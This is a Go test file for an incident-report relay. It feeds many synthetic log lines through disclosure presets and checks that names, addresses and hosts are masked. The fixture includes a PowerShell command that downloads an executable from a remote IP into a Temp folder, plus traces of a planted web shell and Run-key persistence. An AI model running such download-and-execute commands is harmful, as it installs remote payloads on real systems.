package relay

import (
	"strings"
	"testing"

	"iodefgw/relay/disclosure"
)

// honestLogs are lines as common programs write them, each of which names the
// recipient's machine or account and something that may be withheld.
const honestLogs = `
Nov 20 12:14:07 www sshd[812]: Failed password for invalid user bob from 198.51.100.77 port 40122 ssh2
Nov 20 12:14:07 www sshd[812]: Invalid user bob from 198.51.100.77 port 40122
Nov 20 12:14:07 www sshd[812]: Failed password for bob from 198.51.100.77 port 40122 ssh2
Nov 20 12:14:07 www sshd[812]: Failed password for root from 198.51.100.77 port 40122 ssh2
Nov 20 12:14:07 www sshd[812]: Accepted publickey for hmori from 198.51.100.77 port 40122 ssh2: ED25519 SHA256:AAAAbbbbCCCC
Nov 20 12:14:07 www sshd[812]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.77  user=bob
Nov 20 12:14:07 www sshd[812]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.77  user=root
Nov 20 12:14:07 www sshd[812]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)
Nov 20 12:14:07 www sshd[812]: Disconnected from invalid user bob 198.51.100.77 port 40122 [preauth]
Nov 20 12:14:07 www sshd[812]: Connection closed by authenticating user root 198.51.100.77 port 22 [preauth]
Nov 20 12:14:07 www sshd[812]: error: maximum authentication attempts exceeded for root from 198.51.100.77 port 4 ssh2 [preauth]
Nov 20 12:14:07 www sudo: hmori : TTY=pts/0 ; PWD=/home/hmori ; USER=root ; COMMAND=/bin/cat /var/www/up/drop7.php
Nov 20 12:14:07 www su: (to root) svc_backup on pts/0
Nov 20 12:14:07 mx postfix/smtpd[99]: connect from unknown[198.51.100.77]
Nov 20 12:14:07 mx postfix/smtpd[99]: NOQUEUE: reject: RCPT from w.isp-r.example[198.51.100.77]: 554 5.7.1 <hanako.mori@example.co.jp>: Relay access denied; from=<a@w.isp-r.example> to=<hanako.mori@example.co.jp> proto=ESMTP helo=<[192.0.2.9]>
Nov 20 12:14:07 mx postfix/smtpd[99]: 4BC: client=w.isp-r.example[198.51.100.77], sasl_method=LOGIN, sasl_username=hmori@example.co.jp
Nov 20 12:14:07 mx postfix/smtpd[99]: 4BC: client=w.isp-r.example[198.51.100.77], sasl_method=LOGIN, sasl_username=bob
Nov 20 12:14:07 mx postfix/smtp[99]: 4BC: to=<hanako.mori+news@example.co.jp>, orig_to=<root>, relay=mail.example.co.jp[203.0.113.26]:25, delay=0.1, status=sent (250 2.0.0 Ok: queued as 9F1)
Nov 20 12:14:07 mx postfix/local[99]: 4BC: to=<bob@mail.example.co.jp>, orig_to=<bob>, relay=local, delay=0.1, status=sent (delivered to mailbox)
Nov 20 12:14:07 mx dovecot: imap-login: Login: user=<hmori>, method=PLAIN, rip=198.51.100.77, lip=203.0.113.25, mpid=77, TLS, session=<abcDEF/ghij>
Nov 20 12:14:07 mx dovecot: pop3-login: Disconnected (auth failed, 1 attempts): user=<bob>, method=PLAIN, rip=198.51.100.77, lip=203.0.113.25
198.51.100.77 - - [20/Nov/2026:12:14:07 +0900] "GET /up/drop7.php?x=1 HTTP/1.1" 200 512 "http://www.example.co.jp/login" "Mozilla/5.0 (X11; Linux x86_64)"
198.51.100.77 - bob [20/Nov/2026:12:14:07 +0900] "GET / HTTP/1.1" 200 512 "-" "curl/8.0"
198.51.100.77 - hmori [20/Nov/2026:12:14:07 +0900] "POST //var//www//up//drop7.php HTTP/1.1" 200 512
www.example.co.jp:443 198.51.100.77 - - [20/Nov/2026:12:14:07 +0900] "GET /?mail=hanako.mori%40example.co.jp&tel=03-5555-0147&name=Hanako+Mori HTTP/2" 200 1
[Fri Nov 20 12:14:07.123456 2026] [php:error] [pid 77] [client 198.51.100.77:40122] PHP Warning:  include(/var/www/up/drop7.php): failed to open stream in /var/www/up/drop7.php on line 3, referer: http://www.example.co.jp/
[Fri Nov 20 12:14:07 2026] [auth_basic:error] [pid 77] [client 198.51.100.77:40122] AH01617: user bob: authentication failure for "/private": Password Mismatch
[Fri Nov 20 12:14:07 2026] [auth_basic:error] [pid 77] [client 198.51.100.77:40122] AH01618: user root not found: /private
2026/11/20 12:14:07 [error] 7#7: *1 open() "/var/www/up/drop7.php" failed (2: No such file or directory), client: 198.51.100.77, server: www.example.co.jp, request: "GET /up/drop7.php HTTP/1.1", host: "203.0.113.25", upstream: "fastcgi://unix:/run/php.sock:"
2026/11/20 12:14:07 [error] 7#7: *1 user "bob" was not found in "/etc/nginx/htpasswd", client: 198.51.100.77
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Computer>DC01.example.co.jp</Computer><Security UserID="S-1-5-18"/></System><EventData><Data Name="TargetUserName">hmori</Data><Data Name="TargetDomainName">EXAMPLE</Data><Data Name="IpAddress">198.51.100.77</Data><Data Name="ProcessName">C:\Users\hmori\AppData\Local\Temp\upd7.exe</Data><Data Name="WorkstationName">DESKTOP-7</Data></EventData></Event>
<Data Name="TargetUserName">bob</Data><Data Name='SubjectUserName'>root</Data><Data Name="IpAddress">::ffff:198.51.100.77</Data><Data Name="IpAddress">::ffff:203.0.113.25</Data>
{"EventID":4625,"TargetUserName":"hmori","TargetDomainName":"EXAMPLE","IpAddress":"198.51.100.77","ProcessName":"C:\\Users\\hmori\\AppData\\Local\\Temp\\upd7.exe","Computer":"dc01.example.co.jp"}
{"winlog":{"event_data":{"TargetUserName":"bob","Image":"C:\\\\Users\\\\hmori\\\\AppData\\\\Local\\\\Temp\\\\upd7.exe","TargetObject":"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd7"}},"source":{"ip":"198.51.100.77"}}
{"user":{"name":"bob"},"source":{"ip":"198.51.100.77"}}
{"user": "root", "source":{"ip":"198.51.100.77"}}
{"message":"An account failed to log on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\thmori\r\n\tAccount Domain:\t\tEXAMPLE\r\n\r\nNetwork Information:\r\n\tSource Network Address:\t198.51.100.77\r\n\tCaller Process Name:\tC:\\Users\\hmori\\AppData\\Local\\Temp\\upd7.exe\r\n"}
{"message":"Account Name:\t\tbob\r\n\tAccount Domain:\t\tEXAMPLE\r\n\tIP:\t198.51.100.77\n\tDst:\t203.0.113.25\n"}
An account failed to log on. Account Name: EXAMPLE\jdoe Source Network Address: 198.51.100.77 Caller: EXAMPLE\\jdoe jdoe EXAMPLE/jdoe
Object Name: \\fs01\share\plan.docx  \\\\fs01\\share\\plan.docx //fs01/share/plan.docx \Device\HarddiskVolume3\Users\hmori\AppData\Local\Temp\upd7.exe from 198.51.100.77
{"Image":"\\Device\\HarddiskVolume3\\Users\\hmori\\AppData\\Local\\Temp\\upd7.exe","ip":"198.51.100.77"}
{"path":"\/var\/www\/up\/drop7.php","ip":"198.51.100.77"}
{"path":"C:\/Users\/hmori\/AppData\/Local\/Temp\/upd7.exe","ip":"198.51.100.77","url":"http:\/\/www.example.co.jp\/a?b=c","u2":"http:\/\/www.isp-r.example\/a?b=203.0.113.25"}
file:///var/www/up/drop7.php file:///C:/Users/hmori/AppData/Local/Temp/upd7.exe from 198.51.100.77
file:///C:/Users/hmori/AppData/Local/Temp/upd7.exe%20x ftp://bob@198.51.100.77/var/www/up/drop7.php ftp://hmori@203.0.113.25/var/www/up/drop7.php
ftp://hmori:pw@198.51.100.77//var/www/up/drop7.php
http://198.51.100.77/up/drop9.aspx http://w.isp-r.example/drop9.aspx?u=hmori
sftp://hmori@198.51.100.77:22/home/hmori/.ssh and scp hmori@198.51.100.77:/var/www/up/drop7.php .
smb://198.51.100.77/share/plan.docx \\198.51.100.77\share\plan.docx \\203.0.113.25\c$\x.exe
rsync: bob@198.51.100.77::mod/var/www/up/drop7.php
Fri Nov 20 12:14:07 2026 [pid 7] [bob] FAIL LOGIN: Client "198.51.100.77"
Fri Nov 20 12:14:07 2026 [pid 7] [hmori] OK UPLOAD: Client "198.51.100.77", "/var/www/up/drop7.php", 512 bytes, 3.1Kbyte/sec
Fri Nov 20 12:14:07 2026 0 198.51.100.77 512 /var/www/up/drop7.php b _ i r bob ftp 0 * c
Nov 20 12:14:07 ftp proftpd[7]: www.example.co.jp (198.51.100.77[198.51.100.77]) - USER bob: no such user found from 198.51.100.77 [198.51.100.77] to 203.0.113.25:21
Nov 20 12:14:07 fw kernel: IN=eth0 OUT= MAC=00:00:5e:00:53:01:00:00:5e:00:53:02:08:00 SRC=198.51.100.77 DST=203.0.113.25 LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=777 DF PROTO=TCP SPT=40122 DPT=22 WINDOW=65535 RES=0x00 SYN URGP=0
Nov 20 12:14:07 fw kernel: IN=eth0 OUT= MAC=33:33:00:00:00:01:00:00:5e:00:53:01:86:dd SRC=2001:0db8:0002:0000:0000:0000:0000:0077 DST=2001:0db8:0001:0000:0000:0000:0000:0025 LEN=60
11/20-12:14:07.123456  [**] [1:2000001:7] ET SCAN [**] [Classification: Misc] [Priority: 2] {TCP} 198.51.100.77:40122 -> 203.0.113.25:22
{"timestamp":"2026-11-20T12:14:07.1+0900","event_type":"alert","src_ip":"198.51.100.77","src_port":40122,"dest_ip":"203.0.113.25","dest_port":22,"ether":{"src_mac":"00:00:5e:00:53:02","dest_mac":"00:00:5e:00:53:01"},"alert":{"signature":"ET"},"http":{"hostname":"www.example.co.jp","url":"/up/drop7.php"},"payload_printable":"USER bob\r\nPASS x\r\n",}
{"event_type":"smtp","src_ip":"198.51.100.77","dest_ip":"203.0.113.25","smtp":{"helo":"w","mail_from":"<a@isp-r.example>","rcpt_to":["<hanako.mori@example.co.jp>"]},"email":{"from":"a","to":["Hanako Mori <hanako.mori@example.co.jp>","=?UTF-8?B?5qOuIOiKseWtkA==?= <x@example.co.jp>"]}}
{"event_type":"fileinfo","fileinfo":{"filename":"/var/www/up/drop7.php","md5":"5f4dcc3b5aa765d61d8327deb882cf99"},"src_ip":"198.51.100.77"}
2026-11-20T12:14:07.123Z,mx01,203.0.113.25:25,198.51.100.77:40122,example.co.jp\hmori,*,<0123@mx01.example.co.jp>,77,SMTP,RECEIVE,hanako.mori@example.co.jp,,512,1,,,"Re: 見積 森 花子",boss@example.co.jp
2026-11-20T12:14:07.123Z,EX01\Default EX01,08D,3,203.0.113.25:25,198.51.100.77:40122,<,MAIL FROM:<a@isp-r.example> SIZE=5,
2026-11-20T12:14:07.123Z,EX01\Default EX01,08D,3,203.0.113.25:25,198.51.100.77:40122,*,EXAMPLE\hmori,authenticated
1795144447.123    120 203.0.113.25 TCP_MISS/200 512 GET http://198.51.100.77/x.exe bob HIER_DIRECT/198.51.100.77 text/html
1795144447.123    120 203.0.113.25 TCP_TUNNEL/200 512 CONNECT w.isp-r.example:443 hmori@EXAMPLE.CO.JP HIER_DIRECT/198.51.100.77 -
20-Nov-2026 12:14:07.123 queries: info: client @0x7f00 203.0.113.25#40122 (w.isp-r.example): query: w.isp-r.example IN A +E(0)K (203.0.113.53)
20-Nov-2026 12:14:07.123 security: info: client @0x7f007119 198.51.100.77#53 (25.113.0.203.in-addr.arpa): query (cache) '25.113.0.203.in-addr.arpa/PTR/IN' denied
11/20/2026 12:14:07 PM 0E78 PACKET  0000 UDP Rcv 198.51.100.77    0002   Q [0001   D   NOERROR] A      (3)www(7)example(2)co(2)jp(0)
11/20/2026 12:14:07 PM 0E78 PACKET  0000 UDP Rcv 198.51.100.77    0002   Q [0001   D   NOERROR] PTR      (2)25(3)113(1)0(3)203(7)in-addr(4)arpa(0)
CEF:0|Vendor|Prod|1.0|100|Login failed|5|src=198.51.100.77 dst=203.0.113.25 suser=hmori duser=bob fname=C:\\Users\\hmori\\AppData\\Local\\Temp\\upd7.exe filePath=/var/www/up/drop7.php request=http://www.example.co.jp/a?b\=c smac=00:00:5e:00:53:01 dhost=www.example.co.jp msg=user\=bob
CEF:0|V|P|1|1|n|5|src=198.51.100.77 duser=root suid=10027 uid=10027 dproc=x
CEF:0|V|P|1|1|n|5|src=198.51.100.77 duser=bob
LEEF:1.0|V|P|1|1|src=198.51.100.77	dst=203.0.113.25	usrName=bob	srcMAC=00-00-5E-00-53-01	identHostName=www
LEEF:2.0|V|P|1|1|^|src=198.51.100.77^dst=203.0.113.25^usrName=hmori^accountName=bob^url=http://www.example.co.jp/a^x=1
1795144447.123456	Cabc	198.51.100.77	40122	203.0.113.25	22	tcp	ssh	1.2	100	200	SF	-	-	0	ShADad	10	100	10	200	-	00:00:5e:00:53:02	00:00:5e:00:53:01
1795144447.123456	Cabc	198.51.100.77	40122	203.0.113.25	21	bob	<hidden>	STOR	ftp://203.0.113.25/var/www/up/drop7.php	-	512	226	ok
1795144447.123456	Cabc	198.51.100.77	40122	203.0.113.25	21	bob	<hidden>	STOR	ftp://198.51.100.77/./drop7.php	-	512	226	ok
1795144447.12	Cx	198.51.100.77	1	203.0.113.25	389	user	bob
%ASA-4-106023: Deny tcp src outside:198.51.100.77/40122 dst inside:203.0.113.25/22 by access-group "outside" [0x0, 0x0]
%ASA-6-113005: AAA user authentication Rejected : reason = AAA failure : server = 203.0.113.9 : user = bob : user IP = 198.51.100.77
%ASA-6-605004: Login denied from 198.51.100.77/40122 to outside:203.0.113.25/ssh for user "bob"
%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: bob] [Source: 198.51.100.77] [localport: 22] [Reason: Login Authentication Failed] at 12:14:07
%SEC-6-IPACCESSLOGP: list 101 denied tcp 198.51.100.77(40122) -> 203.0.113.25(22), 1 packet
date=2026-11-20 time=12:14:07 devname="fw" srcip=198.51.100.77 dstip=203.0.113.25 user="bob" srcmac="00:00:5e:00:53:01" url="/up/drop7.php" hostname="www.example.co.jp"
BGP: 203.0.113.0/24 from 198.51.100.77 AS path 64496 64500 origin AS64496
whois: origin: AS64496 descr: Example Networks K.K. route 203.0.113.0/24
tel: 03-5555-0147 tel:+81-3-5555-0147 Tel 03-5555-0147 ext. 12 198.51.100.77
From: Hanako Mori <hanako.mori@example.co.jp> Tel. +81 3 5555 0147 (x12) Example Networks KK, 株式会社サンプル 森花子 198.51.100.77
type=USER_LOGIN msg=audit(1795144447.123:77): pid=7 uid=0 auid=10027 ses=1 msg='op=login acct="bob" exe="/usr/sbin/sshd" hostname=198.51.100.77 addr=198.51.100.77 terminal=ssh res=failed'
type=SYSCALL msg=audit(1795144447.123:77): arch=c000003e AUID="hmori" UID="root" exe="/var/www/up/drop7.php" 198.51.100.77
type=CRYPTO_KEY_USER acct="root" exe="/usr/sbin/sshd" addr=198.51.100.77
mysqld: 2026-11-20T12:14:07 77 [Note] Access denied for user 'bob'@'198.51.100.77' (using password: YES)
mysqld: Access denied for user 'root'@'203.0.113.25' (using password: YES) from 198.51.100.77
postgres: FATAL:  password authentication failed for user "bob" host 198.51.100.77
postgres: 2026-11-20 12:14:07 JST [77] hmori@shop FATAL: no pg_hba.conf entry for host "198.51.100.77", user "hmori", database "shop"
vpn: 198.51.100.77:40122 TLS: Username/Password authentication succeeded for username 'bob'
radiusd: Login incorrect: [bob/<via Auth-Type = EAP>] (from client ap1 port 0 cli 00-00-5E-00-53-01)  198.51.100.77
radiusd: User-Name = "bob" Calling-Station-Id = "0000.5e00.5301" Framed-IP-Address = 203.0.113.25 198.51.100.77
dhcpd: DHCPACK on 203.0.113.25 to 00:00:5e:00:53:01 (hmori-pc) via eth0 198.51.100.77
{"user_id":"u7","username":"bob","remote":"198.51.100.77","login":"root"}
{"eventName":"ConsoleLogin","sourceIPAddress":"198.51.100.77","userIdentity":{"type":"IAMUser","userName":"bob","arn":"arn:aws:iam::123456789012:user/bob"}}
{"eventName":"x","sourceIPAddress":"198.51.100.77","arn":"arn:aws:iam::123456789012:user/hmori","account":"10027"}
{"CreationTime":"2026-11-20T12:14:07","Operation":"UserLoggedIn","UserId":"hanako.mori@example.co.jp","ClientIP":"198.51.100.77","ObjectId":"https://example.sharepoint.com/sites/x/plan.docx"}
{"a":"203.0.113.25\n198.51.100.77","b":"\"hmori\"","c":"\tbob\t","d":"x\nhanako.mori@example.co.jp\n"}
{"a":"x\nwww.example.co.jp\nw.isp-r.example\n","b":"to\t203.0.113.25\tfrom\t198.51.100.77\n2001:db8:1::25\n00:00:5e:00:53:01\r\n"}
{"cmd":"cmd.exe /c \"C:\\Users\\hmori\\AppData\\Local\\Temp\\upd7.exe\" -h 198.51.100.77"}
powershell -c (New-Object Net.WebClient).DownloadFile('http://198.51.100.77/a.exe','C:\Users\hmori\AppData\Local\Temp\upd7.exe')
W3SVC1 203.0.113.25 POST /drop9.aspx - 443 EXAMPLE\hmori 198.51.100.77 Mozilla/5.0+(Windows+NT+10.0) https://www.example.co.jp/ 200 0 0 31
W3SVC1 203.0.113.25 POST /drop9.aspx - 443 bob 198.51.100.77 Mozilla/5.0 - 200 0 0 31
Received: from w.isp-r.example (w.isp-r.example [198.51.100.77]) by mx.example.co.jp (Postfix) with ESMTPS id 4BC for <hanako.mori@example.co.jp>; Fri, 20 Nov 2026 12:14:07 +0900 (JST)
Received: from [192.0.2.9] ([IPv6:2001:db8:1::25]) by mx (Postfix) (envelope-from <bounce+hanako.mori=example.co.jp@isp-r.example>) for bob; 198.51.100.77
exim: 2026-11-20 12:14:07 login authenticator failed for (User) [198.51.100.77]:40122: 535 Incorrect authentication data (set_id=bob)
exim: 2026-11-20 12:14:07 login authenticator failed for (User) [198.51.100.77]:40122 I=[203.0.113.25]:25: 535 (set_id=hanako.mori@example.co.jp)
fail2ban.actions: NOTICE [sshd] Ban 198.51.100.77 ; bob@203.0.113.25 ; user bob, host www
netflow: 2026-11-20 12:14:07.123 0.000 TCP 198.51.100.77:40122 -> 203.0.113.25:22 1 60 1
tcpdump: 12:14:07.123 IP 198.51.100.77.40122 > 203.0.113.25.22: Flags [S], seq 3405803, win 65535
squid: http://w.isp-r.example/?u=http%3A%2F%2Fwww.example.co.jp%2Fa&e=hanako.mori%40example.co.jp&f=%2Fvar%2Fwww%2Fup%2Fdrop7.php&x=C%3A%5CUsers%5Chmori%5CAppData%5CLocal%5CTemp%5Cupd7.exe
waf: GET /?f=..%2F..%2Fvar%2Fwww%2Fup%2Fdrop7.php from 198.51.100.77 user%3Dbob
waf: GET /?f=%252Fvar%252Fwww%252Fup%252Fdrop7.php from 198.51.100.77 user%3Dhmori
cron: (root) CMD (/var/www/up/drop7.php) 198.51.100.77 hmori(uid=1000) svc_backup_old
useradd[7]: new user: name=bob, UID=10027, GID=10027, home=/home/bob, shell=/bin/sh 198.51.100.77
systemd-logind[7]: New session 7 of user root. 198.51.100.77
systemd[1]: Started Session 7 of User bob. 198.51.100.77
CROND: pam_unix(cron:session): session opened for user bob by (uid=0) 198.51.100.77
smbd: [2026/11/20 12:14:07] Auth: [SMB2,(null)] user [EXAMPLE]\[bob] at [Fri, 20 Nov 2026] with [NTLMv2] status [NT_STATUS_WRONG_PASSWORD] workstation [DESKTOP] remote host [ipv4:198.51.100.77:40122] mapped to [EXAMPLE]\[hmori]
kerberos: AS_REQ (8 etypes {18 17}) 198.51.100.77: CLIENT_NOT_FOUND: hmori@EXAMPLE.CO.JP for krbtgt/EXAMPLE.CO.JP@EXAMPLE.CO.JP
ldap: conn=7 op=0 BIND dn="uid=bob,ou=People,dc=example,dc=co,dc=jp" method=128 IP=198.51.100.77:40122
ldap: conn=7 op=0 BIND dn="uid=hmori,ou=People,dc=example,dc=co,dc=jp" method=128 IP=198.51.100.77:40122
ldap: BIND dn="cn=Hanako Mori,ou=People,dc=example,dc=co,dc=jp" mail=hanako.mori@example.co.jp 198.51.100.77
asterisk: NOTICE[7] chan_sip.c: Registration from '"bob" <sip:bob@203.0.113.25>' failed for '198.51.100.77:5060' - Wrong password
asterisk: Call from '' (198.51.100.77:5060) to extension '0081355550147' rejected sip:+81355550147@203.0.113.25;user=phone
dnsmasq[7]: query[PTR] 25.113.0.203.in-addr.arpa from 198.51.100.77 reply www.example.co.jp is 203.0.113.25
unbound: [7:0] info: 198.51.100.77 5.2.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.1.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa. PTR IN
Message-ID: <203.0.113.25@w.isp-r.example> 198.51.100.77
GET http://w.isp-r.example/www.example.co.jp/login http://198.51.100.77/hanako.mori@example.co.jp/
prvs=1234=hanako.mori@example.co.jp 198.51.100.77
&lt;Data Name=&quot;TargetUserName&quot;&gt;bob&lt;/Data&gt; 198.51.100.77
O=Example Networks K.K., CN=www.example.co.jp /C=JP/O=x/CN=*.example.co.jp subjectAltName=DNS:www.example.co.jp,IP:203.0.113.25 198.51.100.77
203.0.113[.]25 203.0.113.25/32 203.0.113.20-203.0.113.30 203.0.113.* 203.0.113/24 198.51.100.77
`

// honestReport has such a log, and names elsewhere what stands in it.
func honestReport(log string) string {
	contact := `<Contact role="tech" type="person"><ContactName>Hanako Mori</ContactName><ContactName>森 花子</ContactName>`
	for _, h := range []string{"hmori", "bob", `EXAMPLE\jdoe`, "svc_backup", "root", "10027"} {
		contact += `<RegistryHandle registry="local">` + h + `</RegistryHandle>`
	}
	contact += `<Email><EmailTo>hanako.mori@example.co.jp</EmailTo></Email><Telephone><TelephoneNumber>+81-3-5555-0147</TelephoneNumber></Telephone></Contact>
  <Contact role="tech" type="organization"><ContactName>Example Networks K.K.</ContactName><ContactName>株式会社サンプル</ContactName></Contact>`
	files := ""
	for _, f := range []string{`C:\Users\hmori\AppData\Local\Temp\upd7.exe`, "/var/www/up/drop7.php", "drop9.aspx", `\\fs01\share\plan.docx`} {
		files += `<File><FileName>` + f + `</FileName></File>`
	}
	log = strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(log)
	return reportOf(parts{
		contacts:  contact,
		node:      `<Address category="mac">00:00:5e:00:53:01</Address><Address category="asn">64496</Address><Address category="ipv6-addr">2001:db8:1::25</Address>`,
		eventHead: `<Description>` + log + `</Description>`,
		record:    `<Record><RecordData><RecordItem dtype="string">` + log + `</RecordItem><FileData>` + files + `</FileData></RecordData></Record>`,
	})
}

// TestHonestLogs: whatever such a log holds that may not be told is masked, under
// every preset and at every stage; no notice waits for a person because of it.
func TestHonestLogs(t *testing.T) {
	told := 0
	for _, relation := range []disclosure.Relation{disclosure.AbuseDesk, disclosure.CSIRT} {
		u := certU()
		u.Aliases = []string{"Example KK"}
		d := newDesk(t, "", u, ispR(relation), orgV())
		for _, conditions := range []string{"conditions: forward-log-as-is\n", "conditions: hide-my-ip\n", "conditions: minimal\nlogs: as-is\ntext: as-is\n", "conditions: no-relay\n", "conditions: ask-me\n",
			"conditions: hide-my-ip\nmy-hosts: hide\ntext: sanitize\n", "conditions: hide-my-ip\nmy-addresses: /24\nmy-hosts: pseudonym\nidentity: keep\n", "conditions: hide-my-ip\nstage: first-contact\n"} {
			for _, stage := range []disclosure.Stage{disclosure.FirstContact, disclosure.Acknowledged, disclosure.Authenticated, disclosure.Trusted} {
				tell := func(log string) *Notice {
					return d.tell("isp-r", stage, d.report("cert-u", blockOf(conditions), honestReport(log)))
				}
				switch n := tell(honestLogs); n.Refusal {
				case "":
					told++
				case NotProved:
					t.Errorf("%q to %s at %s: scan %q, twin %s", conditions, relation, stage, n.Leaks, n.Twin)
					for line := range strings.Lines(honestLogs) {
						if n := tell(line); n.Refusal == NotProved {
							t.Errorf("of these: %s", line)
						}
					}
				}
			}
		}
	}
	if told < 40 {
		t.Errorf("%d notices are told", told)
	}
}
